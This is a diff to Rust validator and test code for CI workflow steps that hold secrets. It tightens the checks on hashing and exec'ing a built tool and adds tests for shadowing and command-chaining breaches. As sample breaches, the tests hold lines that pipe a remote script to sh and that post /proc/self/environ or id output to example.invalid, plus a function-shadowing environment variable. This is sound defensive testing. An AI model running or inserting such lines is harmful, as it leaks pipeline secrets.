@@ -504,8 +504,11 @@ fn step_label(step: &Yaml) -> String {
 /// hashed again against what job `tool` built (checkout, download-artifact and
 /// setup-packer ran earlier in the job, and PATH is theirs to change), then exec'd by the
 /// path that was hashed. `sha256sum` by its path: PATH may lead to another.
-const CHECK_THE_TOOL: [&str; 2] = [
+const CHECK_THE_TOOL: [&str; 3] = [
     "tool=$(command -v uworker-image)",
+    // A function of that name, or a relative PATH entry, is no path to hash: `exec`
+    // would run another file than the one checked.
+    r#"[[ $tool == /* ]]"#,
     r#"/usr/bin/sha256sum --check --strict --quiet <<<"$TOOL_SHA256  $tool""#,
 ];
 const EXEC_THE_TOOL: &str = r#"exec "$tool" "${args[@]}""#;
@@ -522,11 +525,21 @@ fn secret_step_fault(script: &str) -> Option<&'static str> {
         .map(str::trim)
         .filter(|l| !l.is_empty() && !l.starts_with('#'))
         .collect();
+    // `args=(...)` or `[ TEST ] || args+=(...)`, and nothing else: no other command
+    // chained in (`&&`, `;`, `&`, a pipe), no substitution, no redirection.
     let builds_args = |l: &&str| {
-        (l.starts_with("args=(") || (l.starts_with("[ ") && l.contains("] || args+=(")))
-            && l.ends_with(')')
-            && !l.contains("$(")
-            && !l.contains('`')
+        let rest = match l.strip_prefix("args=(") {
+            Some(rest) => rest,
+            None => match l
+                .strip_prefix("[ ")
+                .and_then(|t| t.split_once(" ] || args+=("))
+            {
+                Some((test, rest)) if !has_shell_operator(test) => rest,
+                _ => return false,
+            },
+        };
+        rest.strip_suffix(')')
+            .is_some_and(|inner| !has_shell_operator(inner) && !inner.contains(['(', ')']))
     };
     const NO_EXEC: &str = "holds secrets but does not only `exec` the checked uworker-image";
     let Some((last, before)) = lines.split_last() else {
@@ -534,13 +547,25 @@ fn secret_step_fault(script: &str) -> Option<&'static str> {
     };
     const UNCHECKED: &str =
         "holds secrets but does not hash uworker-image again before it execs it";
-    if last.contains('|') || last.contains(';') {
-        return Some(NO_EXEC);
-    }
     if last.starts_with("exec uworker-image ") {
         return Some(UNCHECKED);
     }
-    if !last.starts_with(EXEC_THE_TOOL) {
+    // The exec, alone; at most its output sent to a file of the runner's temp dir.
+    let redirect = last.strip_prefix(EXEC_THE_TOOL).map(str::trim);
+    let exec_alone = match redirect {
+        Some("") => true,
+        Some(to) => to
+            .strip_prefix(">\"$RUNNER_TEMP/")
+            .and_then(|name| name.strip_suffix('"'))
+            .is_some_and(|name| {
+                !name.is_empty()
+                    && name
+                        .bytes()
+                        .all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b))
+            }),
+        None => false,
+    };
+    if !exec_alone {
         return Some(NO_EXEC);
     }
     let Some(args) = before.len().checked_sub(CHECK_THE_TOOL.len()) else {
@@ -553,6 +578,13 @@ fn secret_step_fault(script: &str) -> Option<&'static str> {
         return Some(NO_EXEC);
     }
     None
+}
+
+/// Whether shell text holds anything that runs or redirects beyond plain words.
+fn has_shell_operator(text: &str) -> bool {
+    ["&", ";", "|", "<", ">", "$(", "`"]
+        .iter()
+        .any(|op| text.contains(op))
 }
 
 /// Where a workflow lets a secret reach code that is not the tool: a `uses:` step with a
@@ -686,6 +718,7 @@ fn sha256_hex(path: &std::path::Path) -> String {
 fn run_step(script: &str, bin: &std::path::Path, vars: &[(&str, &str)]) -> Run {
     let mut cmd = Command::new("bash");
     cmd.env_clear()
+        .current_dir(bin.parent().unwrap())
         .env("PATH", format!("{}:/usr/bin:/bin", bin.display()))
         .envs(vars.iter().copied())
         .args(["-e", "-c", script]);
@@ -741,6 +774,19 @@ fn each_secret_step_execs_only_the_binary_the_tool_job_built() {
                 assert_ne!(r.code, 0, "{rel}: {name}: {}", r.all());
                 assert!(r.all().contains("FAILED"), "{rel}: {name}: {}", r.all());
                 assert!(!log.exists(), "{rel}: {name}: the swapped binary ran");
+
+                // And a function of its name exported by an earlier step, a good copy
+                // where the name is a relative path: `command -v` names the function,
+                // the copy would pass the hash, and `exec` would run PATH's swapped one.
+                std::fs::write(tmp.path().join("uworker-image"), "").unwrap();
+                stand_in("built");
+                std::fs::copy(&tool, tmp.path().join("uworker-image")).unwrap();
+                stand_in("swapped");
+                let shadowed = [&pairs[..], &[("BASH_FUNC_uworker-image%%", "() { :; }")]].concat();
+                let r = run_step(script, &bin, &shadowed);
+                assert_ne!(r.code, 0, "{rel}: {name}: {}", r.all());
+                assert!(!log.exists(), "{rel}: {name}: the swapped binary ran");
+                std::fs::remove_file(tmp.path().join("uworker-image")).unwrap();
                 checked.push(format!("{rel}: {name}"));
             }
         }
@@ -758,7 +804,7 @@ fn each_secret_step_execs_only_the_binary_the_tool_job_built() {
     assert_eq!(release["env"]["TOOL_SHA256"].as_str(), Some(TOOL_SHA256));
     let script = release["run"].as_str().unwrap();
     let lines: Vec<&str> = script.lines().map(str::trim).collect();
-    assert_eq!(lines[..2], CHECK_THE_TOOL, "{script}");
+    assert_eq!(lines[..3], CHECK_THE_TOOL, "{script}");
     assert!(
         script.contains("\"$tool\" report") && !script.contains("uworker-image report"),
         "{script}"
@@ -966,9 +1012,12 @@ fn each_secret_boundary_check_catches_its_breach() {
     let install_in_build =
         "          binary-sha256: ${{ needs.tool.outputs.sha256 }}\n      # The release is made";
     let exec_build = "          exec \"$tool\" \"${args[@]}\"\n        env: *cloud-and-worker-secrets\n      - if: always()";
-    let check_build = &format!("          tool=$(command -v uworker-image)\n          /usr/bin/sha256sum --check --strict --quiet <<<\"$TOOL_SHA256  $tool\"\n{exec_build}");
+    let check_build = &format!("          tool=$(command -v uworker-image)\n          [[ $tool == /* ]]\n          /usr/bin/sha256sum --check --strict --quiet <<<\"$TOOL_SHA256  $tool\"\n{exec_build}");
     // sha256sum as PATH finds it; something run before the check.
-    let unsure_check = &format!("          tool=$(command -v uworker-image)\n          sha256sum --check --strict --quiet <<<\"$TOOL_SHA256  $tool\"\n{exec_build}");
+    let unsure_check = &format!("          tool=$(command -v uworker-image)\n          [[ $tool == /* ]]\n          sha256sum --check --strict --quiet <<<\"$TOOL_SHA256  $tool\"\n{exec_build}");
+    // A name `command -v` gives that is no path (a function of that name): not refused.
+    let any_name_check = &format!("          tool=$(command -v uworker-image)\n          /usr/bin/sha256sum --check --strict --quiet <<<\"$TOOL_SHA256  $tool\"\n{exec_build}");
+    let args_build = "          args=(build --target \"$BUILD_TARGET\" --out \"$RUNNER_TEMP/record.json\" --no-report)\n";
     let run_before_check =
         &format!("          curl -fsSL https://example.invalid/x.sh | sh\n{check_build}");
     let breaches = [
@@ -1030,6 +1079,28 @@ fn each_secret_boundary_check_catches_its_breach() {
             check_build,
             unsure_check,
             "holds secrets but does not hash uworker-image again before it execs it",
+        ),
+        (
+            check_build,
+            any_name_check,
+            "holds secrets but does not hash uworker-image again before it execs it",
+        ),
+        // A command chained into a line that builds the arguments, or after the exec
+        // (in the background): each runs with the secrets.
+        (
+            args_build,
+            "          args=(build) && curl -sd @/proc/self/environ https://example.invalid && args+=(x)\n",
+            "holds secrets but does not only `exec` the checked uworker-image",
+        ),
+        (
+            args_build,
+            "          args=(build); env >/tmp/x; args+=(x)\n",
+            "holds secrets but does not only `exec` the checked uworker-image",
+        ),
+        (
+            exec_build,
+            "          exec \"$tool\" \"${args[@]}\" & curl https://example.invalid/$(id)\n        env: *cloud-and-worker-secrets\n      - if: always()",
+            "holds secrets but does not only `exec` the checked uworker-image",
         ),
         (
             "      TOOL_SHA256: ${{ needs.tool.outputs.sha256 }}\n      UWORKER_IMAGE_TIMEOUT",
